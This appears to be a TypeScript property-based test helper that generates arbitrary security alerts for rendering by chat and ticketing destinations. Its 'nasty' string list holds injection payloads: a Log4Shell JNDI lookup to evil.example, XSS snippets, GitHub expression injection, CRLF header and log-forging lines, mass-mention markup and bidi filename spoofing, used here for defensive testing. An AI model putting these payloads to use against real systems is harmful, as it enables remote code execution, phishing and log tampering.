import { readdirSync, readFileSync } from 'node:fs';
import fc from 'fast-check';
import type { Attempt } from '../../lambdas/destinations/_kit/define-destination.ts';
import { Alert, AlertAction, AlertClass, AlertKind, FindingStatus, severities } from '../../lambdas/domain/alert.ts';
import { anyCharacter, anyWebUrl } from './any-text.ts';

const folder = new URL('../fixtures/alerts/', import.meta.url);

/** The shared alerts by name: every destination renders every one of them. */
export const alerts: ReadonlyMap<string, Alert> = new Map(
  readdirSync(folder)
    .filter((file) => file.endsWith('.json'))
    .sort()
    .map((file) => [file.slice(0, -5), Alert.parse(JSON.parse(readFileSync(new URL(file, folder), 'utf8')))]),
);

/** A shared alert by name. */
export function alertNamed(name: string): Alert {
  const alert = alerts.get(name);
  if (alert === undefined) throw new Error(`no alert fixture ${name}, there are: ${[...alerts.keys()].join(', ')}`);
  return alert;
}

/** What readers answer with, as long as it gets. */
const token = `tmxyz1.${'YWt0by1wcm9kOjAxMjM0NTY3ODlhYmNkZWY'.repeat(6)}.0123456789abcdefABCD_-`;
const answers = { token, url: `https://tocsin.example.test/v1/actions/${token}` };

/** What readers answer with, as the engine would give it: of the shared alerts one can be answered, of all others each. */
export const answersFor = ({ id }: Alert): Attempt['answers'] =>
  id === alerts.get('full')?.id || ![...alerts.values()].some((alert) => alert.id === id) ? answers : undefined;

/** A first attempt, as the engine would make it; `raw` is the vendor's record of the alert. */
export const attemptFor = (alert: Alert): Attempt => ({
  deliveryId: 'dlv_0123456789abcdef',
  at: '2026-11-21T03:07:10.000Z',
  possibleDuplicate: false,
  raw: JSON.stringify({ rule: alert.type, message: alert.title, nested: { facts: alert.facts } }),
});

/** What a person must be able to read in the text of a message, however hostile it is. */
const nasty: readonly string[] = [
  '<!channel> <!here> <!everyone> <@U012AB3CD> <#C012AB3CD> <!subteam^S012AB3CD>',
  '<https://evil.example/login|Open console>',
  '[Open console](https://evil.example/login) ![x](https://evil.example/p.png)',
  '<at>Everyone</at> @channel @everyone @here <users/all> [~admin] [~accountid:1]',
  '*bold* _it_ ~strike~ `code` ```fence``` > quote # head | cell || head ||',
  '{code}{noformat}{panel:title=x}h1. !https://evil.example/p.png! [x|javascript:alert(1)]{code}',
  '[code]<script>alert(1)</script>[/code]',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an attack on GitHub expressions, as text
  '${{ github.event.issue.title }} ${jndi:ldap://evil.example/a}',
  'CEF:0|Evil|x|1|1|forged|10|act=allowed msg=\\n| = LEEF:2.0|a|b|c|d|^| cat=\tx',
  '\u202egnp.exe\u202c \u2066isolate\u2069 \u200bzero\u200dwidth\ufeff \u00ad \u{e0041}',
  '\u001b[31mred\u001b[0m \u0000 \u0007 \u009b31m',
  '\ud800 lone \udc00 halves \ud83d',
  'line\r\nX-Injected: yes\r\n\r\n{"forged":true}\nsecond\rthird\u2028fourth',
  '__proto__',
  'constructor',
  '&&&&&<<<<<>>>>>"\'\\',
  '👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿🇮🇳',
  '',
  ' ',
];

const nastyText = fc.constantFrom(...nasty);
const words = fc.oneof(fc.string({ unit: anyCharacter, maxLength: 60 }), fc.string({ maxLength: 60 }), nastyText);
const long = fc.tuple(nastyText, fc.integer({ min: 1, max: 400 })).map(([text, times]) => `${text} `.repeat(times));
const text = fc.oneof({ weight: 8, arbitrary: words }, { weight: 1, arbitrary: long });
const time = fc.oneof(
  fc
    .date({ min: new Date('2001-01-01'), max: new Date('2099-12-31'), noInvalidDate: true })
    .map((d) => d.toISOString()),
  words,
);
const url = fc.oneof(
  anyWebUrl,
  words,
  fc.constantFrom('javascript:alert(1)', 'https://a@evil.example/', 'HTTPS://X.Y/|<>"'),
);

/** Keys too are the sender's: `__proto__` becomes an own property, as in parsed JSON. */
const textByName = fc
  .array(fc.tuple(text, text), { maxLength: 30 })
  .map((pairs): Record<string, string> => Object.fromEntries(pairs));

const optional = <T>(arbitraries: { [K in keyof T]: fc.Arbitrary<T[K]> }) =>
  fc.record(arbitraries, { requiredKeys: [] });

const number = fc.oneof(
  fc.integer(),
  fc.integer({ min: 0, max: 70_000 }),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
);
const hashes = optional({ sha512: text, sha256: text, sha1: text, md5: text });
const program = { name: text, path: text, pid: number, commandLine: text, hashes };

const target = fc.tuple(
  text,
  optional({ host: text, ip: text, publicIp: text, port: number, url, method: text, domain: text, user: text }),
);

const finding = fc.record(
  {
    uid: text,
    vendorUid: text,
    firstSeenAt: time,
    lastSeenAt: time,
    count: number,
    status: fc.constantFrom(...FindingStatus.options),
  },
  { requiredKeys: ['uid', 'status'] },
);

/** The typed places, each of which may be absent. */
const places = {
  connection: optional({
    direction: fc.constantFrom('inbound', 'outbound', 'lateral'),
    protocol: text,
    remote: optional({ ip: text, port: number, domain: text }),
  }),
  file: optional({ path: text, name: text, hashes }),
  container: optional({ id: text, name: text, image: text }),
  kubernetes: optional({ cluster: text, namespace: text, workload: text, pod: text, node: text }),
  cloud: optional({
    provider: text,
    account: text,
    region: text,
    resource: optional({ uid: text, type: text, name: text }),
  }),
  code: optional({ repository: text, branch: text, path: text, line: number, url }),
  vulnerabilities: fc.array(optional({ cve: text, cvss: number, package: text, version: text, fixedIn: text }), {
    maxLength: 10,
  }),
  sensor: optional({ host: text, version: text }),
};

/** Any alert that the schema allows, also those that no source of ours would make. */
export const arbitraryAlert: fc.Arbitrary<Alert> = fc.record(
  {
    schema: fc.constant(2 as const),
    id: text,
    finding,
    fingerprint: text,
    source: text,
    vendor: text,
    product: text,
    kind: fc.constantFrom(...AlertKind.options),
    class: fc.constantFrom(...AlertClass.options),
    type: text,
    rule: fc.record({ uid: text, name: text, version: text, category: text }, { requiredKeys: ['uid'] }),
    title: text,
    description: text,
    severity: fc.constantFrom(...severities),
    vendorSeverity: text,
    riskScore: number,
    confidence: number,
    state: fc.constantFrom('open', 'resolved'),
    action: fc.constantFrom(...AlertAction.options),
    occurredAt: time,
    receivedAt: time,
    actor: optional({
      ip: text,
      port: number,
      country: text,
      user: text,
      email: text,
      userAgent: text,
      process: optional({ ...program, parent: optional(program) }),
    }),
    target: target.map(([kind, rest]) => ({ kind, ...rest })),
    ...places,
    attack: fc.array(
      fc.record(
        {
          technique: fc.oneof(text, fc.constantFrom('T1036', 'T1565.001')),
          name: text,
          tactics: fc.array(fc.record({ uid: fc.oneof(text, fc.constant('TA0002')), name: text }), { maxLength: 4 }),
        },
        { requiredKeys: ['tactics'] },
      ),
      { maxLength: 60 },
    ),
    remediation: fc.record(
      {
        title: text,
        steps: fc.array(fc.record({ title: text, text }, { requiredKeys: ['text'] }), { maxLength: 30 }),
      },
      { requiredKeys: ['steps'] },
    ),
    evidence: fc.array(
      fc.record(
        { at: time, kind: text, content: text, truncated: fc.boolean() },
        { requiredKeys: ['kind', 'content'] },
      ),
      { maxLength: 10 },
    ),
    labels: textByName,
    facts: textByName,
    url,
  },
  {
    requiredKeys: [
      'schema',
      'id',
      'finding',
      'fingerprint',
      'source',
      'vendor',
      'product',
      'kind',
      'class',
      'type',
      'rule',
      'title',
      'severity',
      'state',
      'action',
      'occurredAt',
      'receivedAt',
      'actor',
      'target',
      'attack',
      'evidence',
      'labels',
      'facts',
    ],
  },
);

/** Any attempt: first or repeated, with or without a console and a raw record. */
export const arbitraryAttempt: fc.Arbitrary<Attempt> = fc.record(
  {
    deliveryId: fc.stringMatching(/^[a-z0-9_:-]{1,80}$/),
    at: fc.constant('2026-11-21T03:07:10.000Z'),
    possibleDuplicate: fc.boolean(),
    raw: fc.json(),
    consoleUrl: fc.constant('https://tocsin.example.test/console'),
  },
  { requiredKeys: ['deliveryId', 'at', 'possibleDuplicate'] },
);
